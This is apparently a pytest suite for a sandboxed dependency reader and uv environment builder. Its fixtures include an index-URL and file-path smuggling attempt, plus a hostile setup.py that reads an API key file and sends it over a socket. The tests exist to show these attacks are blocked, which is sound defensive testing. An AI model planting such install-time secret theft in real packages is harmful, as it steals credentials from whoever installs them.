"""Reading a repository's declared dependencies, and building its environment with uv in the sandbox."""

from __future__ import annotations

import asyncio
import sys
import textwrap
import time
from pathlib import Path

import asyncpg
import pytest

from agents.base import Services, dispatch, wait_for_task
from agents.phase2_client import InProcessPhase2
from engine.engine import ExecutionEngine
from engine.repo_env import DependencyError, RepoEnvironments, checked, declared_requirements


def write(repo: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        path = repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text))
    return repo


def test_pyproject_dependencies_and_test_extras_are_read(tmp_path: Path) -> None:
    write(tmp_path, {"pyproject.toml": """
        [project]
        name = "x"
        dependencies = ["python-dateutil>=2.8", "six"]
        [project.optional-dependencies]
        test = ["freezegun"]
        docs = ["sphinx"]
    """, "requirements-dev.txt": "# tools\nhypothesis==6.*  # pinned\n-r other.txt\n--index-url http://evil\n"})
    found = declared_requirements(tmp_path)
    assert found.requirements == ("python-dateutil>=2.8", "six", "freezegun", "hypothesis==6.*")
    assert found.sources == ("pyproject.toml", "requirements-dev.txt")


def test_setup_cfg_and_literal_setup_py_are_read_without_running_anything(tmp_path: Path) -> None:
    write(tmp_path / "a", {"setup.cfg": "[options]\ninstall_requires =\n    text-unidecode>=1.3\n"})
    assert declared_requirements(tmp_path / "a").requirements == ("text-unidecode>=1.3",)
    write(tmp_path / "b", {"setup.py": "from setuptools import setup\nraise SystemExit('ran!')\n"
                                       "setup(name='b', install_requires=['attrs'])\n"})
    assert declared_requirements(tmp_path / "b").requirements == ("attrs",)
    write(tmp_path / "c", {"setup.py": "from setuptools import setup\nsetup(install_requires=open('r').read().split())\n"})
    assert declared_requirements(tmp_path / "c").needs_setup_py


def test_a_requirement_cannot_smuggle_options_or_paths() -> None:
    with pytest.raises(DependencyError, match="not valid"):
        checked(("--index-url=http://evil",), ("pyproject.toml",))
    with pytest.raises(DependencyError, match="points at a URL or path"):
        checked(("pkg @ file:///root/.ssh",), ("pyproject.toml",))
    assert checked(("six>=1; python_version>'3'",), ()) == ['six>=1; python_version > "3"']


@pytest.fixture(scope="session")
def repo_envs(tmp_path_factory: pytest.TempPathFactory) -> RepoEnvironments:
    """One environments folder and uv cache for the session (the cache makes later builds fast)."""
    return RepoEnvironments(tmp_path_factory.mktemp("envs") / "envs")


SLUG_REPO = {
    "pyproject.toml": """
        [project]
        name = "sluggy"
        version = "0"
        dependencies = ["text-unidecode>=1.3"]
    """,
    "sluggy.py": """
        from text_unidecode import unidecode


        def slug(text: str) -> str:
            ascii_text = unidecode(text).lower()
            words = "".join(c if c.isalnum() else " " for c in ascii_text).split()
            if not words:
                raise ValueError("nothing to slug")
            return "-".join(words)
    """,
}


@pytest.mark.slow
async def test_a_declared_dependency_is_installed_once_and_reused(repo_envs: RepoEnvironments,
                                                                 tmp_path: Path) -> None:
    repo = write(tmp_path / "sluggy", SLUG_REPO)
    started = time.perf_counter()
    first = await repo_envs.environment_for(repo)
    built_s = time.perf_counter() - started
    assert first is not None and not first.reused
    started = time.perf_counter()
    again = await repo_envs.environment_for(repo)
    reused_s = time.perf_counter() - started
    assert again is not None and again.reused and again.python == first.python
    print(f"\nenvironment built in {built_s:.1f} s, reused in {reused_s * 1000:.0f} ms")
    proc = await asyncio.create_subprocess_exec(
        first.python, "-c", "import text_unidecode, pytest, coverage; print('ok')",
        stdout=asyncio.subprocess.PIPE)
    out, _ = await proc.communicate()
    assert out.strip() == b"ok"


@pytest.mark.slow
async def test_a_tool_installed_between_two_builds_leaves_the_sandboxes_cache_writable(tmp_path: Path) -> None:
    """humanize 4.17 failed with "Permission denied ... uv-cache/wheels-v8/pypi/mypy-extensions": the
    tools' installs (as the app's own user) and the sandboxed builds shared one uv cache."""
    from agents.generation.tool_venv import ToolVenv

    data = tmp_path / "data"
    envs = RepoEnvironments(data / "envs")
    assert await envs.environment_for(write(tmp_path / "sluggy", SLUG_REPO)) is not None
    await ToolVenv(data / "tools", "six", "1.16.0").ensure_installed()  # trusted, unsandboxed, caches six
    needs_six = write(tmp_path / "needs-six", {"pyproject.toml": """
        [project]
        name = "needs-six"
        version = "0"
        dependencies = ["six==1.16.0"]
    """})
    built = await envs.environment_for(needs_six)
    assert built is not None and not built.reused
    assert (data / "tools" / "uv-cache").is_dir() and not (data / "tools").is_relative_to(envs.cache_dir)


@pytest.mark.slow
async def test_setup_py_gets_neither_key_nor_network_and_the_request_fails_clearly(
    repo_envs: RepoEnvironments, tmp_path: Path, data_dir: Path,
) -> None:
    key_file = data_dir / "secrets" / "llm-api-key"
    key_file.parent.mkdir(parents=True, exist_ok=True)
    key_file.write_text("sk-very-secret")
    connections: list[str] = []

    async def record(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        connections.append("connected")
        writer.close()

    listener = await asyncio.start_server(record, "127.0.0.1", 0)
    port = listener.sockets[0].getsockname()[1]
    repo = write(tmp_path / "evil", {"setup.py": f"""
        import socket
        from setuptools import setup
        stolen = open({str(key_file)!r}).read()  # raises: the file is not there
        socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(stolen.encode())
        setup(name="evil", install_requires=[d for d in ["six"]])
    """})
    try:
        with pytest.raises(DependencyError) as failed:
            await repo_envs.environment_for(repo)
    finally:
        listener.close()
        await listener.wait_closed()
    message = str(failed.value)
    assert "setup.py failed while we read its dependencies" in message
    assert "llm-api-key" in message and "No such file" in message
    assert "sk-very-secret" not in message
    assert connections == []

    # Network alone: the key read removed, the connection still fails inside the sandbox.
    (repo / "setup.py").write_text(textwrap.dedent(f"""
        import socket
        from setuptools import setup
        socket.create_connection(("127.0.0.1", {port}), timeout=3)
        setup(name="evil", install_requires=[d for d in ["six"]])
    """))
    listener = await asyncio.start_server(record, "127.0.0.1", port)
    try:
        with pytest.raises(DependencyError, match="setup.py failed"):
            await repo_envs.environment_for(repo)
    finally:
        listener.close()
        await listener.wait_closed()
    assert connections == []


@pytest.mark.slow
async def test_search_strategy_gets_passing_tests_on_a_module_importing_a_dependency(
    agent_host, agent_services: Services, pool: asyncpg.Pool, repo_envs: RepoEnvironments, tmp_path: Path,
) -> None:
    repo = write(tmp_path / "sluggy", SLUG_REPO)
    agent_services.envs = repo_envs
    agent_services.phase2 = InProcessPhase2(ExecutionEngine(pool, python=sys.executable, envs=repo_envs))
    payload = {"repository_url": str(repo), "target_files": ["sluggy.py"], "coverage_target": 0.8,
               "strategy": "search", "max_rounds": 2, "search_time_s": 10, "mutation_score": False}
    timings = []
    for _ in range(2):
        started = time.perf_counter()
        task_id = await dispatch(pool, agent_services.bus, "generate", payload)
        done = await wait_for_task(pool, task_id, timeout_s=600)
        timings.append(time.perf_counter() - started)
        assert done["status"] == "completed", done["error"]
        report = done["result"]
        assert report["test_count"] >= 1 and report["files"], report
        assert report["coverage_estimate"] > 0.5, report
    print(f"\nrequest 1 (environment built or reused from the session cache): {timings[0]:.1f} s; "
          f"request 2 (reused): {timings[1]:.1f} s")


@pytest.mark.slow
async def test_a_wheel_layout_gets_the_dependency_its_metadata_alone_declares(repo_envs: RepoEnvironments,
                                                                              tmp_path: Path) -> None:
    """Issue 27: pypara as its wheel unpacks ended "No module named dateutil"; its METADATA declared it."""
    files = {"sluggy.py": SLUG_REPO["sluggy.py"],
             "sluggy-0.1.dist-info/METADATA": "Metadata-Version: 2.1\nName: sluggy\nVersion: 0.1\n"
                                              "Requires-Dist: text-unidecode (>=1.3)\n"}
    repo = write(tmp_path / "wheel-layout", files)
    env = await repo_envs.environment_for(repo)
    assert env is not None and env.requirements == ("text-unidecode>=1.3",)
    proc = await asyncio.create_subprocess_exec(
        env.python, "-c", "import sys; sys.path.insert(0, sys.argv[1]); import sluggy; print(sluggy.slug('Héllo W'))",
        str(repo), stdout=asyncio.subprocess.PIPE)
    out, _ = await proc.communicate()
    assert out.strip() == b"hello-w"


@pytest.mark.slow
async def test_a_package_that_reads_its_own_version_imports_from_a_checkout(repo_envs: RepoEnvironments,
                                                                              tmp_path: Path) -> None:
    """humanize 4.9.0: ``importlib.metadata.version("humanize")`` at import; checked out, not installed, every
    import raised PackageNotFoundError and Pynguin kept nothing. Its environment carries its own metadata."""
    repo = write(tmp_path / "selfaware", {
        "pyproject.toml": '[project]\nname = "self-aware"\nversion = "1.2.3"\ndependencies = []\n',
        "src/self_aware/__init__.py": "from importlib.metadata import version\n\n__version__ = version('self-aware')\n",
    })
    env = await repo_envs.environment_for(repo)
    assert env is not None  # no dependency declared, and still an environment: for the metadata
    proc = await asyncio.create_subprocess_exec(
        env.python, "-c", "import sys; sys.path.insert(0, sys.argv[1]); import self_aware; print(self_aware.__version__)",
        str(repo / "src"), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    out, err = await proc.communicate()
    assert out.strip() == b"1.2.3", err
    # A package that does not read its metadata gets none, and no environment (our interpreter runs it).
    plain = write(tmp_path / "plain", {"pyproject.toml": '[project]\nname = "plain"\nversion = "1"\n',
                                       "plain/__init__.py": "X = 1\n"})
    assert await repo_envs.environment_for(plain) is None


@pytest.mark.slow
async def test_an_undeclared_import_is_mapped_installed_and_named(repo_envs: RepoEnvironments, tmp_path: Path) -> None:
    """Issue 27: a repository that imports ``dateutil`` and declares nothing gets python-dateutil, said with why."""
    repo = write(tmp_path / "undeclared", {
        "calendar_tools/__init__.py": "",
        "calendar_tools/easter_day.py": "from dateutil.easter import easter\n\n\ndef day(year):\n"
                                        "    return easter(year).isoformat()\n",
    })
    said: list[str] = []

    async def progress(message: str) -> None:
        said.append(message)

    env = await repo_envs.environment_for(repo, progress=progress)
    assert env is not None and [(a.import_name, a.distribution) for a in env.added] == [("dateutil", "python-dateutil")]
    assert env.added[0].why == "python-dateutil for 'import dateutil' (calendar_tools/easter_day.py), declared nowhere"
    assert any("Declared nowhere, imported by the repository: python-dateutil" in line for line in said), said
    proc = await asyncio.create_subprocess_exec(
        env.python, "-c", "import sys; sys.path.insert(0, sys.argv[1]); from calendar_tools import easter_day; "
        "print(easter_day.day(2024))", str(repo), stdout=asyncio.subprocess.PIPE)
    out, _ = await proc.communicate()
    assert out.strip() == b"2024-03-31"
    again = await repo_envs.environment_for(repo)  # the scan and the build are kept: the same environment
    assert again is not None and again.python == env.python and again.reused


async def test_the_setting_off_installs_nothing_undeclared(tmp_path: Path) -> None:
    repo = write(tmp_path / "undeclared-off", {"easter_day.py": "import dateutil\n"})
    envs = RepoEnvironments(tmp_path / "envs", install_undeclared=False)
    assert await envs.environment_for(repo) is None  # nothing declared, nothing added: our interpreter runs it
